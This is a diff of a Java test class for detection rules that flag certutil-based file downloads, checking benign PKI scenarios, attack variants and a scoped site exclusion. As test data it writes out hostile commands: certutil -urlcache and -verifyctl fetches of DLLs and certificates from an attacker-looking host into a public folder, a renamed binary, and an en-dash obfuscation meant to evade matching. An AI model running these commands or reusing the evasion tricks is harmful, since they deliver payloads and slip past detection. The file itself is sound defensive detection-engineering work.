@@ -6,8 +6,11 @@ import dev.bazahunt.rules.CertutilDownloadRule;
 import dev.bazahunt.rules.HardenedCertutilRule;
 import dev.bazahunt.rules.RuleIds;
 import dev.bazahunt.telemetry.DeviceFileEvent;
+import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Map;
 import java.util.function.Consumer;
 import org.junit.jupiter.api.Test;
 
@@ -183,20 +186,103 @@ class SeedScenariosTest {
                 "certutil.exe -decode C:\\PKI\\CertData\\PartnerRoot.b64 C:\\PKI\\CertData\\PartnerRoot.cer"));
     }
 
+    /**
+     * None of the five scenarios fetches a URL, so neither rule matches them: their exclusions are
+     * audited insurance, and each row is covered by its own scenario's entry.
+     */
     @Test
-    void hardenedRuleRaisesNothingOnSeedScenariosOnceExclusionsApply() {
-        List<DeviceFileEvent> scenarios = List.of(
-                scheduledGeneration("certutil.exe -generate -subject \"CN=InternalCert\""),
-                adminRootUpdate("Administrator", "S-1-5-21-1004336348-1177238915-682003330-500",
-                        "certutil.exe -addstore -user TrustedRootCertStore C:\\Temp\\ContosoRootCA.cer"),
-                powershellServiceCert("powershell.exe", "certutil.exe -addstore -user MyInternalServiceCert C:\\Deploy\\svc-web01.cer"),
-                caOperation("svc-pki-ca", "pki-ca01.contoso.local", "certutil.exe -dspublish -f C:\\CAConfig\\ContosoRootCA.crt RootCA"),
-                internalCertDecode("ContosoInternalIssuingCA.cer",
-                        "certutil.exe -decode C:\\PKI\\CertData\\ContosoInternalIssuingCA.b64 C:\\PKI\\CertData\\ContosoInternalIssuingCA.cer"));
-        for (DeviceFileEvent event : scenarios) {
-            assertThat(alerts(event)).as(event.initiatingProcessCommandLine).isFalse();
-            assertThat(EXCLUSIONS.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, event)).isNotNull();
+    void seedScenariosAreNoDownloadsSoNeitherRuleMatchesThem() {
+        Map<String, DeviceFileEvent> scenarios = new LinkedHashMap<>();
+        scenarios.put("Scheduled internal certificate generation",
+                scheduledGeneration("certutil.exe -generate -subject \"CN=InternalCert\""));
+        scenarios.put("Administrators updating trusted roots", adminRootUpdate("Administrator",
+                "S-1-5-21-1004336348-1177238915-682003330-500",
+                "certutil.exe -addstore -user TrustedRootCertStore C:\\Temp\\ContosoRootCA.cer"));
+        scenarios.put("PowerShell certificate management for internal services", powershellServiceCert("powershell.exe",
+                "certutil.exe -addstore -user MyInternalServiceCert C:\\Deploy\\svc-web01.cer"));
+        scenarios.put("Enterprise CA service account operations", caOperation("svc-pki-ca", "pki-ca01.contoso.local",
+                "certutil.exe -dspublish -f C:\\CAConfig\\ContosoRootCA.crt RootCA"));
+        scenarios.put("Internally signed certificate data with an encoded payload",
+                internalCertDecode("ContosoInternalIssuingCA.cer", "certutil.exe -decode "
+                        + "C:\\PKI\\CertData\\ContosoInternalIssuingCA.b64 C:\\PKI\\CertData\\ContosoInternalIssuingCA.cer"));
+        scenarios.forEach((name, event) -> {
+            assertThat(HardenedCertutilRule.matches(event)).as(name).isFalse();
+            assertThat(CertutilDownloadRule.matches(event)).as(name).isFalse();
+            assertThat(EXCLUSIONS.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, event)).as(name)
+                    .extracting(Exclusion::name).isEqualTo(name);
+        });
+    }
+
+    /**
+     * The same scenarios with a download in them: the hardened rule matches each one, and the seed file's
+     * guards (the genuine binary, no fetching verb or URL) keep every one of them alerting.
+     */
+    @Test
+    void attacksDressedAsASeedScenarioMatchAndStillAlert() {
+        DeviceFileEvent caDownload = caOperation("svc-pki-ca", "pki-ca01.contoso.local",
+                "certutil.exe -dspublish -verifyctl -f https://pshe0pxe339.xyz/a.dll C:\\Users\\Public\\a.dll");
+        caDownload.folderPath = "C:\\Users\\Public\\a.dll";
+        DeviceFileEvent renamedDecode = internalCertDecode("ContosoInternalIssuingCA.cer",
+                "x8k2.exe -urlcache -f http://pshe0pxe339.xyz/c.b64 -decode C:\\PKI\\CertData\\ContosoInternalIssuingCA.cer");
+        renamedDecode.initiatingProcessFileName = "x8k2.exe";
+        renamedDecode.initiatingProcessFolderPath = "C:\\Users\\Public\\x8k2\\x8k2.exe";
+        Map<String, DeviceFileEvent> attacks = new LinkedHashMap<>();
+        attacks.put("generation with a download first", scheduledGeneration(
+                "certutil.exe -urlcache -f https://pshe0pxe339.xyz/a.dll -generate -subject \"CN=InternalCert\""));
+        attacks.put("Administrator adding a root fetched over http", adminRootUpdate("Administrator",
+                "S-1-5-21-1004336348-1177238915-682003330-500",
+                "certutil.exe -addstore -user TrustedRootCertStore -urlcache -f http://pshe0pxe339.xyz/root.cer"));
+        attacks.put("PowerShell install with an en-dash url\"cache\"", powershellServiceCert("powershell.exe",
+                "certutil.exe -addstore -user MyInternalServiceCert \u2013url\"cache\" -f http://pshe0pxe339.xyz/s.cer"));
+        attacks.put("CA account's -verifyctl fetch into Public", caDownload);
+        attacks.put("renamed copy decoding into the PKI folder", renamedDecode);
+        attacks.forEach((name, event) -> {
+            assertThat(HardenedCertutilRule.matches(event)).as(name).isTrue();
+            assertThat(alerts(event)).as(name).isTrue();
+        });
+    }
+
+    /**
+     * A site's own entry after the seed file's, for the hardened rule's documented false positive: an
+     * administrator fetching Sysinternals with the System32 certutil. The rule matches that row and the
+     * entry removes it; the same fetch by another account, or from another host, still alerts.
+     */
+    @Test
+    void aSiteExclusionRemovesTheDownloadsItNamesAndNoOthers() throws Exception {
+        ExclusionSet site = ExclusionSet.parse(Files.readString(SEED) + """
+                  - name: Sysinternals downloads by the PKI administrator
+                    reason: adm-jdoe fetches PsTools with the System32 certutil into his Downloads folder.
+                    rules: [395090bd-f47c-4d17-800d-50a30fba3db4]
+                    conditions:
+                      all:
+                        - {column: InitiatingProcessFileName, operator: =~, value: certutil.exe}
+                        - {column: InitiatingProcessFolderPath, operator: in~, values: [C:\\Windows\\System32\\certutil.exe]}
+                        - {column: InitiatingProcessAccountName, operator: =~, value: adm-jdoe}
+                        - {column: FolderPath, operator: startswith, value: C:\\Users\\adm-jdoe\\Downloads\\}
+                        - {column: InitiatingProcessCommandLine, operator: contains, value: " https://download.sysinternals.com/files/"}
+                """, "site-exclusions.yaml");
+        DeviceFileEvent psTools = sysinternalsFetch("adm-jdoe", "https://download.sysinternals.com/files/PSTools.zip");
+        DeviceFileEvent byAUser = sysinternalsFetch("j.doe", "https://download.sysinternals.com/files/PSTools.zip");
+        DeviceFileEvent elsewhere = sysinternalsFetch("adm-jdoe", "https://pshe0pxe339.xyz/files/PSTools.zip");
+
+        for (DeviceFileEvent event : List.of(psTools, byAUser, elsewhere)) {
+            assertThat(HardenedCertutilRule.matches(event)).as(event.initiatingProcessCommandLine).isTrue();
         }
+        assertThat(site.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, psTools)).extracting(Exclusion::name)
+                .isEqualTo("Sysinternals downloads by the PKI administrator");
+        assertThat(site.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, byAUser)).isNull();
+        assertThat(site.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, elsewhere)).isNull();
+        assertThat(site.firstMatch(RuleIds.CERTUTIL_DOWNLOAD, psTools)).as("named for the hardened rule only").isNull();
+    }
+
+    private static DeviceFileEvent sysinternalsFetch(String account, String url) {
+        String target = "C:\\Users\\" + account + "\\Downloads\\PSTools.zip";
+        return certutilRow("certutil.exe -urlcache -split -f " + url + " " + target, e -> {
+            e.initiatingProcessAccountName = account;
+            e.initiatingProcessParentFileName = "cmd.exe";
+            e.folderPath = target;
+            e.fileName = "PSTools.zip";
+        });
     }
 
     @Test
